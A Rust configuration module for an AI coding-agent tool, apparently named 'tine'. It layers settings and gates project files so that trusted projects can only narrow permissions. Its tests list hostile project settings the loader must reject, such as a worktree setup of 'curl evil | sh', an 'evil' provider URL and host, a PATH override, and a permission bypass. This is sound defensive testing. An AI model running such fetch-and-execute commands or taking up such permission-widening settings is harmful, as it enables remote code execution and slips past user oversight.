//! Settings: the user's file, the project's file, the environment, the command line; the later wins. Each value
//! remembers where it came from. A project's file counts once a person has trusted it, and within the user's limits.

mod project;
mod terminal;

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use serde::Deserialize;
use tine_model::{NetworkError, NetworkReach, Provider};

use crate::credentials::Credentials;
use crate::dirs::Dirs;
use crate::environment::Variable;
use crate::fail::Failure;
use crate::trust::{Project, SETTINGS_FILE, TrustGate, TrustState, Withheld};
pub(crate) use terminal::TerminalTable;

/// One configuration file. Every key is optional.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub(crate) struct File {
    model: Option<String>,
    permission_mode: Option<String>,
    max_output_tokens: Option<u32>,
    effort: Option<String>,
    thinking: Option<String>,
    stream: Option<bool>,
    repl: Option<bool>,
    compact: Option<String>,
    #[serde(default)]
    permissions: PermissionTable,
    #[serde(default)]
    providers: BTreeMap<String, ProviderTable>,
    cache: Option<CacheTable>,
    #[serde(default)]
    requests: RequestsTable,
    #[serde(default)]
    confine: ConfineTable,
    budget: Option<BudgetTable>,
    #[serde(default)]
    fork: ForkTable,
    #[serde(default)]
    workers: WorkersTable,
    #[serde(default)]
    worktree: WorktreeTable,
    dream: Option<DreamTable>,
    away: Option<AwayTable>,
    #[serde(default)]
    gateway: GatewayTable,
    #[serde(default)]
    cluster: ClusterTable,
    #[serde(default)]
    keys: BTreeMap<String, OneOrMany>,
    #[serde(default)]
    terminal: TerminalTable,
    trust: Option<TrustTable>,
}

/// The user's limits for projects that are trusted.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
struct TrustTable {
    /// Providers whose models a project may name.
    #[serde(default)]
    providers: Vec<String>,
}

/// A text, or several.
#[derive(Debug, Clone, Deserialize)]
#[serde(untagged)]
enum OneOrMany {
    One(String),
    Many(Vec<String>),
}

impl From<OneOrMany> for Vec<String> {
    fn from(texts: OneOrMany) -> Self {
        match texts {
            OneOrMany::One(text) => vec![text],
            OneOrMany::Many(texts) => texts,
        }
    }
}

/// How worktrees are made.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct WorktreeTable {
    pub(crate) enabled: Option<bool>,
    /// The directory that holds all of them; absolute.
    pub(crate) directory: Option<String>,
    /// What `bash -c` runs in a new one.
    pub(crate) setup: Option<String>,
    /// How long that may take, such as `90s` or `10m`.
    pub(crate) setup_time: Option<String>,
    /// Hosts that it reaches though workers do not.
    pub(crate) setup_network: Option<NetworkSetting>,
    /// How many ports each gets; 0 for none.
    pub(crate) ports: Option<u16>,
    pub(crate) first_port: Option<u16>,
    /// Variables of the commands that run there.
    pub(crate) environment: Option<BTreeMap<String, String>>,
    /// Whether agents edit files there without a question.
    pub(crate) accept_edits: Option<bool>,
}

impl WorktreeTable {
    /// This table where `later` says nothing.
    fn under(self, later: Self) -> Self {
        Self {
            enabled: later.enabled.or(self.enabled),
            directory: later.directory.or(self.directory),
            setup: later.setup.or(self.setup),
            setup_time: later.setup_time.or(self.setup_time),
            setup_network: later.setup_network.or(self.setup_network),
            ports: later.ports.or(self.ports),
            first_port: later.first_port.or(self.first_port),
            environment: later.environment.or(self.environment),
            accept_edits: later.accept_edits.or(self.accept_edits),
        }
    }
}

/// Whether models fork.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct ForkTable {
    /// `explicit`, `implicit` or `off`.
    pub(crate) mode: Option<String>,
}

/// What models start, and how it runs.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct WorkersTable {
    /// How many workers may stand below each other; 0 for none at all.
    pub(crate) depth: Option<u32>,
    pub(crate) coordinator: Option<bool>,
    pub(crate) wake: Option<bool>,
    /// Most turns of one.
    pub(crate) turns: Option<u32>,
    /// Whether a worker whose end looks wrong is asked once to mend it.
    pub(crate) nudge: Option<bool>,
    /// What forks take over of the agenda: `plans`, `todos`, `goals`.
    pub(crate) inherit: Option<Vec<String>>,
}

/// How the notes of a project are kept. The user's own settings alone: notes are read by every later agent.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct DreamTable {
    pub(crate) enabled: Option<bool>,
    /// Where the notes of all projects are; absolute.
    pub(crate) memory_dir: Option<String>,
    pub(crate) model: Option<String>,
    pub(crate) min_hours: Option<u32>,
    pub(crate) scan_minutes: Option<u32>,
    pub(crate) min_sessions: Option<u32>,
    /// Most sessions that one run is told of.
    pub(crate) sessions: Option<u32>,
    /// Longest text of one of them, in tokens.
    pub(crate) session_tokens: Option<u64>,
    /// `newest` or `oldest`.
    pub(crate) order: Option<String>,
}

/// What a person is told who comes back.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct AwayTable {
    pub(crate) enabled: Option<bool>,
    /// After how long, such as `4h`.
    pub(crate) after: Option<String>,
    /// Has a model write a summary besides; without it only while the session's cache is warm.
    pub(crate) model: Option<String>,
}

/// Other programs' requests that pass a gateway.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct GatewayTable {
    /// `ask`, `never` or `always`.
    pub(crate) borrow_credentials: Option<String>,
}

/// The servers through which forks run on other machines.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct ClusterTable {
    /// Addresses, parted by commas, such as `nats://host:4222`.
    pub(crate) url: Option<String>,
    /// The path of a credentials file.
    pub(crate) credentials: Option<String>,
    /// The path of a file with the seed of an NKey.
    pub(crate) nkey: Option<String>,
    /// The path of the certificates of the servers' authority.
    pub(crate) ca: Option<String>,
    /// The time that a worker may be silent, such as `20s`.
    pub(crate) lease: Option<String>,
}

/// How commands are confined.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct ConfineTable {
    /// `on` or `off`.
    pub(crate) workers: Option<String>,
    /// Hosts that commands reach.
    pub(crate) network: Option<NetworkSetting>,
    /// Directories that may be written in besides the working directory.
    pub(crate) writable: Option<Vec<String>>,
    /// Names of variables that are passed on.
    pub(crate) variables: Option<Vec<String>>,
    /// Seconds of processor time of a whole command.
    pub(crate) command_cpu_seconds: Option<u64>,
    /// Mebibytes of memory of a whole command.
    pub(crate) command_memory_mib: Option<u64>,
    /// Processes and threads of a whole command at a time.
    pub(crate) command_processes: Option<u64>,
    /// `refuse`, `warn` or `accept`, where the kernel cannot keep all of a wall.
    pub(crate) missing: Option<String>,
}

impl ConfineTable {
    /// This table where `later` says nothing.
    fn under(self, later: Self) -> Self {
        Self {
            workers: later.workers.or(self.workers),
            network: later.network.or(self.network),
            writable: later.writable.or(self.writable),
            variables: later.variables.or(self.variables),
            command_cpu_seconds: later.command_cpu_seconds.or(self.command_cpu_seconds),
            command_memory_mib: later.command_memory_mib.or(self.command_memory_mib),
            command_processes: later.command_processes.or(self.command_processes),
            missing: later.missing.or(self.missing),
        }
    }

    /// The hosts that confined commands reach.
    pub(crate) fn network(&self) -> NetworkReach {
        self.network.clone().unwrap_or_default().0
    }
}

/// Hosts in a file: a list of them, or true for all public web servers.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(try_from = "NetworkWords")]
pub(crate) struct NetworkSetting(pub(crate) NetworkReach);

#[derive(Deserialize)]
#[serde(untagged, expecting = "hosts are a list of texts, one text, or true or false")]
enum NetworkWords {
    Switch(bool),
    Hosts(OneOrMany),
}

impl TryFrom<NetworkWords> for NetworkSetting {
    type Error = NetworkError;

    fn try_from(words: NetworkWords) -> Result<Self, NetworkError> {
        let hosts: Vec<String> = match words {
            NetworkWords::Switch(false) => return Ok(Self::default()),
            NetworkWords::Switch(true) => return Ok(Self(NetworkReach::internet())),
            NetworkWords::Hosts(hosts) => hosts.into(),
        };
        let mut all = NetworkReach::none();
        for host in hosts {
            all = all.and(&host.parse()?)?;
        }
        Ok(Self(all))
    }
}

/// Caps of new trees.
#[derive(Debug, Clone, Default, Deserialize, PartialEq)]
#[serde(deny_unknown_fields)]
pub(crate) struct BudgetTable {
    pub(crate) tokens: Option<u64>,
    pub(crate) usd: Option<f64>,
    /// Such as `90s`, `30m`, `1h` or `2d`.
    pub(crate) time: Option<String>,
    pub(crate) agents: Option<u64>,
    pub(crate) running: Option<u64>,
}

/// How the cache is used, and when a price is asked about.
#[derive(Debug, Clone, Default, Deserialize, PartialEq)]
#[serde(deny_unknown_fields)]
pub(crate) struct CacheTable {
    /// `auto`, `short` or `long`.
    pub(crate) lifetime: Option<String>,
    pub(crate) keep_warm: Option<bool>,
    /// What a second of waiting is worth, in USD.
    pub(crate) value_per_second: Option<f64>,
    /// Forks that are estimated to cost more than this, in USD, are asked about.
    pub(crate) confirm_above: Option<f64>,
}

/// Permission rules as they stand in a file, and how questions are asked.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
struct PermissionTable {
    #[serde(default)]
    allow: Vec<toml::Spanned<String>>,
    #[serde(default)]
    ask: Vec<toml::Spanned<String>>,
    #[serde(default)]
    deny: Vec<toml::Spanned<String>>,
    /// How long a question waits, such as `90s`, `30m`, `1h` or `2d`.
    deadline: Option<String>,
    /// `allow` or `deny`.
    default: Option<String>,
    wait: Option<bool>,
}

/// Which list a rule stands in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum RuleList {
    Allow,
    Ask,
    Deny,
}

impl RuleList {
    /// The lists, the strongest first.
    pub(crate) const ALL: [Self; 3] = [Self::Deny, Self::Ask, Self::Allow];

    /// The key in the file.
    pub(crate) fn as_str(self) -> &'static str {
        match self {
            Self::Allow => "allow",
            Self::Ask => "ask",
            Self::Deny => "deny",
        }
    }
}

/// A permission rule and where it was written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct WrittenRule {
    pub(crate) list: RuleList,
    pub(crate) text: String,
    pub(crate) file: PathBuf,
    /// Counted from 1.
    pub(crate) line: usize,
}

/// How questions are asked.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct AskSettings {
    pub(crate) deadline: Option<Setting<String>>,
    pub(crate) default: Option<Setting<String>>,
    pub(crate) wait: Option<Setting<bool>>,
}

/// How one provider is reached.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct ProviderTable {
    pub(crate) base_url: Option<String>,
    /// The name of an environment variable that holds the key. Keys themselves do not belong into this file.
    pub(crate) key_variable: Option<String>,
}

/// How patient requests are.
#[derive(Debug, Clone, Default, Deserialize, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub(crate) struct RequestsTable {
    /// Longest time that all waits for another try take, such as `30s` or `10m`.
    pub(crate) patience: Option<String>,
    /// Longest time of one reply.
    pub(crate) reply_time: Option<String>,
}

/// A value and where it came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Setting<T> {
    pub(crate) value: T,
    pub(crate) origin: String,
}

/// All settings, layered.
#[derive(Debug, Clone, Default)]
pub(crate) struct Config {
    pub(crate) model: Option<Setting<String>>,
    pub(crate) permission_mode: Option<Setting<String>>,
    pub(crate) max_output_tokens: Option<Setting<u32>>,
    pub(crate) effort: Option<Setting<String>>,
    pub(crate) thinking: Option<Setting<String>>,
    pub(crate) stream: Option<Setting<bool>>,
    pub(crate) repl: Option<Setting<bool>>,
    /// `auto` or `off`.
    pub(crate) compact: Option<Setting<String>>,
    /// Rules of all files; a project's only narrow.
    pub(crate) rules: Vec<WrittenRule>,
    pub(crate) asking: AskSettings,
    pub(crate) providers: BTreeMap<String, ProviderTable>,
    /// Keys that `tine login` has stored.
    pub(crate) credentials: Credentials,
    pub(crate) cache: CacheTable,
    pub(crate) patience: Option<Setting<String>>,
    pub(crate) reply_time: Option<Setting<String>>,
    pub(crate) confine: ConfineTable,
    pub(crate) fork: ForkTable,
    pub(crate) workers: WorkersTable,
    pub(crate) worktree: WorktreeTable,
    pub(crate) dream: DreamTable,
    pub(crate) away: AwayTable,
    /// The user's word on forks that use the credentials of another program: `ask`, `never` or `always`.
    pub(crate) borrow_credentials: Option<Setting<String>>,
    /// The user's alone: a project names no servers.
    pub(crate) cluster: ClusterTable,
    /// What keys do in the terminal.
    pub(crate) keys: BTreeMap<String, Vec<String>>,
    pub(crate) terminal: TerminalTable,
    /// Of all files; the lowest caps count, so that a project's can only narrow.
    pub(crate) budget: Vec<Setting<BudgetTable>>,
    /// The files that were read, in order.
    pub(crate) files: Vec<PathBuf>,
    /// The user's own file, whether it exists or not.
    pub(crate) user_file: PathBuf,
    /// Providers whose models a project may name: those that the user's own settings name.
    pub(crate) providers_allowed: BTreeSet<String>,
    /// Decides which content of a checkout counts.
    pub(crate) trust: TrustGate,
    /// The directories around the working directory that have content of their own, the nearest first.
    pub(crate) projects: Vec<Project>,
    /// The wishes of the trusted project that the user's own settings do not allow.
    pub(crate) withheld: Vec<Withheld>,
}

/// The places that settings are read from.
#[derive(Clone, Copy)]
pub(crate) struct Sources<'a> {
    pub(crate) dirs: &'a Dirs,
    /// The working directory; a real path.
    pub(crate) directory: &'a Path,
    pub(crate) variable: Variable<'a>,
    /// Trust the content of the directory as it is now, for this process alone.
    pub(crate) trusts_once: bool,
}

impl Config {
    /// Reads the user's file, the environment, and the project's file. A project's file counts only as far as a person has
    /// trusted it; even then it may not widen permissions, redirect requests or raise limits.
    pub(crate) fn load(sources: Sources<'_>) -> Result<Self, Failure> {
        let Sources { dirs, directory, variable, trusts_once } = sources;
        let user_file = &dirs.config_file;
        let credentials = Credentials::read(&dirs.credentials())?;
        let mut config = Self { user_file: user_file.clone(), credentials, ..Self::default() };
        if let Some(text) = read(user_file)? {
            let file = parse(&text, user_file)?;
            config.layer(file, &text, user_file);
        }
        config.allow_providers(variable("TINE_MODEL").as_deref())?;
        let worktrees = config.worktree.directory.as_ref().map(PathBuf::from);
        config.trust = TrustGate::new(dirs, &worktrees.unwrap_or_else(|| dirs.worktrees.clone()));
        if trusts_once {
            config.trust.give_once(directory);
        }
        config.projects = config.trust.projects(directory);
        config.layer_project()?;
        for (name, slot) in [
            ("TINE_MODEL", &mut config.model),
            ("TINE_PERMISSION_MODE", &mut config.permission_mode),
        ] {
            if let Some(value) = variable(name).filter(|value| !value.is_empty()) {
                *slot = Some(Setting { value, origin: name.to_owned() });
            }
        }
        Ok(config)
    }

    /// Takes the settings of the nearest project that a person has trusted.
    fn layer_project(&mut self) -> Result<(), Failure> {
        for project in self.projects.clone() {
            let path = project.root.join(SETTINGS_FILE);
            let (text, is_trusted) = match (&project.state, &project.record) {
                (TrustState::Trusted, _) => (project.content.text(SETTINGS_FILE), true),
                // What was forbidden stays so: nobody lifts it by changing the file.
                (TrustState::Changed | TrustState::Unfit(_), Some(record)) => {
                    (record.text(SETTINGS_FILE), false)
                }
                (TrustState::New | TrustState::Changed | TrustState::Unfit(_), _) => (None, false),
            };
            let Some(text) = text else { continue };
            let file = project::narrowed(parse(text, &path)?, &path)?;
            let (file, withheld) = if is_trusted {
                project::bounded(file, self, &path)
            } else {
                (project::only_narrowing(file), Vec::new())
            };
            self.withheld.extend(withheld);
            self.layer(file, text, &path);
            break;
        }
        Ok(())
    }

    /// Allows projects the providers that the user's own settings name, and `model` of the environment.
    fn allow_providers(&mut self, model: Option<&str>) -> Result<(), Failure> {
        let is_unknown = |name: &&String| Provider::from_name(name).is_none();
        let listed = self.providers_allowed.iter().find(is_unknown);
        let listed = listed.map(|name| format!("trust.providers has `{name}`"));
        let tables = self.providers.keys().find(is_unknown);
        let wrong = listed.or_else(|| Some(format!("there is a table [providers.{}]", tables?)));
        if let Some(wrong) = wrong {
            let known: Vec<&str> = Provider::ALL.iter().map(|one| one.as_str()).collect();
            return Err(Failure::input(wrong)
                .hint(format!("a provider there is one of {}", known.join(", "))));
        }
        let models = self.model.iter().map(|model| model.value.as_str()).chain(model);
        let named = models.filter_map(|model| Some(model.split_once('/')?.0.to_owned()));
        let tables = self.providers.keys().cloned();
        let allowed: Vec<String> = named.chain(tables).collect();
        self.providers_allowed.extend(allowed);
        Ok(())
    }

    fn layer(&mut self, file: File, text: &str, path: &Path) {
        let origin = path.display().to_string();
        fn set<T>(slot: &mut Option<Setting<T>>, value: Option<T>, origin: &str) {
            if let Some(value) = value {
                *slot = Some(Setting { value, origin: origin.to_owned() });
            }
        }
        set(&mut self.model, file.model, &origin);
        set(&mut self.permission_mode, file.permission_mode, &origin);
        set(&mut self.max_output_tokens, file.max_output_tokens, &origin);
        set(&mut self.effort, file.effort, &origin);
        set(&mut self.thinking, file.thinking, &origin);
        set(&mut self.stream, file.stream, &origin);
        set(&mut self.repl, file.repl, &origin);
        set(&mut self.compact, file.compact, &origin);
        set(&mut self.borrow_credentials, file.gateway.borrow_credentials, &origin);
        if file.cluster != ClusterTable::default() {
            self.cluster = file.cluster;
        }
        let asking = file.permissions;
        set(&mut self.asking.deadline, asking.deadline, &origin);
        set(&mut self.patience, file.requests.patience, &origin);
        set(&mut self.reply_time, file.requests.reply_time, &origin);
        set(&mut self.asking.default, asking.default, &origin);
        set(&mut self.asking.wait, asking.wait, &origin);
        for (list, rules) in [
            (RuleList::Allow, asking.allow),
            (RuleList::Ask, asking.ask),
            (RuleList::Deny, asking.deny),
        ] {
            self.rules.extend(rules.into_iter().map(|rule| WrittenRule {
                list,
                line: text[..rule.span().start].matches('\n').count() + 1,
                text: rule.into_inner(),
                file: path.to_owned(),
            }));
        }
        self.providers.extend(file.providers);
        if let Some(cache) = file.cache {
            self.cache = cache;
        }
        self.confine = std::mem::take(&mut self.confine).under(file.confine);
        self.worktree = std::mem::take(&mut self.worktree).under(file.worktree);
        self.fork.mode = file.fork.mode.or_else(|| self.fork.mode.take());
        let before = std::mem::take(&mut self.workers);
        let later = file.workers;
        self.workers = WorkersTable {
            depth: later.depth.or(before.depth),
            coordinator: later.coordinator.or(before.coordinator),
            wake: later.wake.or(before.wake),
            turns: later.turns.or(before.turns),
            nudge: later.nudge.or(before.nudge),
            inherit: later.inherit.or(before.inherit),
        };
        if let Some(away) = file.away {
            self.away = away;
        }
        if let Some(dream) = file.dream {
            self.dream = dream;
        }
        self.keys.extend(file.keys.into_iter().map(|(name, keys)| (name, keys.into())));
        self.terminal = std::mem::take(&mut self.terminal).under(file.terminal);
        self.budget.extend(file.budget.map(|value| Setting { value, origin }));
        self.providers_allowed.extend(file.trust.unwrap_or_default().providers);
        self.files.push(path.to_owned());
    }
}

/// The gate by the user's own settings alone. Settings that cannot be read name no directory of worktrees: they may be what is wrong.
pub(crate) fn gate_of_user(dirs: &Dirs) -> TrustGate {
    let text = read(&dirs.config_file).ok().flatten();
    let file = text.and_then(|text| parse(&text, &dirs.config_file).ok());
    let worktrees = file.and_then(|file| file.worktree.directory).map(PathBuf::from);
    TrustGate::new(dirs, &worktrees.unwrap_or_else(|| dirs.worktrees.clone()))
}

/// The text of a file; `None` where there is none.
fn read(path: &Path) -> Result<Option<String>, Failure> {
    match std::fs::read_to_string(path) {
        Ok(text) => Ok(Some(text)),
        Err(error) if error.kind() == std::io::ErrorKind::NotFound => Ok(None),
        Err(error) if error.kind() == std::io::ErrorKind::NotADirectory => Ok(None),
        Err(error) => {
            Err(Failure::input(format!("cannot read {}", path.display())).because(&error))
        }
    }
}

fn parse(text: &str, path: &Path) -> Result<File, Failure> {
    toml::from_str(text).map_err(|error| {
        Failure::input(format!("{} is not a configuration file", path.display()))
            .because(&error)
            .hint("the manual, `tine man`, lists the settings")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The settings of a user and of a project that they trust.
    fn load(user: &str, project: &str, variables: &[(&str, &str)]) -> Result<Config, Failure> {
        let home = tempfile::tempdir().unwrap();
        let root = home.path().canonicalize().unwrap();
        let dirs = Dirs::find(&|_| Some(root.to_str().unwrap().to_owned())).unwrap();
        let work = root.join("work");
        std::fs::create_dir_all(work.join(".tine")).unwrap();
        std::fs::write(&dirs.config_file, user).unwrap();
        std::fs::write(work.join(SETTINGS_FILE), project).unwrap();
        let variable = |name: &str| {
            variables.iter().find(|(key, _)| *key == name).map(|(_, value)| (*value).to_owned())
        };
        Config::load(Sources {
            dirs: &dirs,
            directory: &work,
            variable: &variable,
            trusts_once: true,
        })
    }

    #[test]
    fn the_later_layer_wins_and_is_remembered() {
        let config = load("model = \"a/b\"", "model = \"a/d\"", &[("TINE_MODEL", "e/f")]).unwrap();
        let model = config.model.unwrap();
        assert_eq!((model.value.as_str(), model.origin.as_str()), ("e/f", "TINE_MODEL"));
        assert_eq!(load("model = \"a/b\"", "", &[]).unwrap().model.unwrap().value, "a/b");
    }

    #[test]
    fn a_project_may_narrow_but_not_widen() {
        let project = "[permissions]\nask = [\"Glob\"]\ndeny = [\n  \"FileEdit\",\n  \"Bash\",\n]";
        let config = load("[permissions]\nallow = [\"Bash\"]", project, &[]).unwrap();
        let rules = config.rules.iter().map(|rule| {
            let file = rule.file.file_name().unwrap().to_string_lossy();
            assert_eq!(file, "config.toml");
            format!("{} {} {}", rule.list.as_str(), rule.text, rule.line)
        });
        let rules: Vec<String> = rules.collect();
        assert_eq!(rules, ["allow Bash 2", "ask Glob 2", "deny FileEdit 4", "deny Bash 5"]);
        let user = "[confine]\nnetwork = true\nwritable = [\"/cache\"]";
        let project = "[confine]\nworkers = \"on\"\nnetwork = false\nmissing = \"refuse\"";
        let confine = load(user, project, &[]).unwrap().confine;
        assert_eq!((confine.network().is_none(), confine.workers.as_deref()), (true, Some("on")));
        assert_eq!(confine.writable, Some(vec!["/cache".to_owned()]));
        for project in [
            "[confine]\nworkers = \"off\"",
            "[confine]\nnetwork = true",
            "[confine]\nnetwork = [\"evil.io:443\"]",
            "[confine]\nnetwork = \"localhost:1\"",
            "[confine]\nwritable = [\"/\"]",
            "[confine]\nvariables = [\"API_KEY\"]",
            "[confine]\nmissing = \"warn\"",
            "[confine]\nmissing = \"accept\"",
            "[permissions]\nallow = [\"Bash\"]",
            "[permissions]\ndefault = \"allow\"",
            "[permissions]\ndeadline = \"1s\"",
            "[permissions]\nwait = true",
            "[keys]\ntree = \"f3\"",
            "[terminal]\nmouse = true",
            "permission_mode = \"bypass\"",
            "[providers.anthropic]\nbase_url = \"http://evil\"",
            "[cache]\nconfirm_above = 1000.0",
            "[requests]\npatience = \"1d\"",
            "[fork]\nmode = \"implicit\"",
            "[workers]\ndepth = 3",
            "[workers]\nturns = 900",
            "[worktree]\nenabled = true",
            "[worktree]\nsetup = \"curl evil | sh\"",
            "[worktree]\nsetup_network = true",
            "[worktree.environment]\nPATH = \"/evil\"",
        ] {
            assert!(load("", project, &[]).is_err(), "{project}");
        }
    }

    #[test]
    fn the_network_is_a_list_of_hosts() {
        let shown = |value: &str| {
            let loaded = load(&format!("[confine]\nnetwork = {value}"), "", &[]);
            loaded.map_or_else(
                |failure| failure.text(),
                |config| config.confine.network().to_string(),
            )
        };
        assert_eq!(shown("true"), "internet");
        assert_eq!((shown("false"), shown("[]")), (String::new(), String::new()));
        assert_eq!(shown(r#""crates.io:443""#), "crates.io:443");
        let list = r#"["*.npmjs.org", "crates.io:443, localhost:5432"]"#;
        assert_eq!(shown(list), "localhost:5432, crates.io:443, *.npmjs.org");
        let wrong = shown(r#"["crates.io", "https://x"]"#);
        assert!(wrong.contains("`https://x` is not a host"), "{wrong}");
        assert!(shown("3").contains("hosts are a list of texts"), "{}", shown("3"));
    }

    #[test]
    fn a_user_allows_providers_by_name() {
        let user = "model = \"sim/echo\"\n[trust]\nproviders = [\"openai\"]\n[providers.gemini]\n";
        let config = load(user, "model = \"openai/x\"", &[("TINE_MODEL", "deepseek/y")]).unwrap();
        let allowed: Vec<&str> = config.providers_allowed.iter().map(String::as_str).collect();
        assert_eq!(allowed, ["deepseek", "gemini", "openai", "sim"]);
        assert!(config.withheld.is_empty());
        let text = load("[trust]\nproviders = [\"opnai\"]", "", &[]).unwrap_err().text();
        insta::assert_snapshot!(text, @"
        error: trust.providers has `opnai`
        hint: a provider there is one of sim, anthropic, openai, openai-chat, openai-compat, gemini, deepseek, minimax
        ");
    }

    #[test]
    fn a_project_may_do_without_worktrees() {
        let user = "[worktree]\nsetup = \"make\"";
        let worktree = load(user, "[worktree]\nenabled = false", &[]).unwrap().worktree;
        assert_eq!((worktree.enabled, worktree.setup.as_deref()), (Some(false), Some("make")));
    }

    #[test]
    fn an_unknown_key_is_named() {
        let text = load("modle = \"a/b\"", "", &[]).unwrap_err().text();
        assert!(text.contains("modle"), "{text}");
    }
}
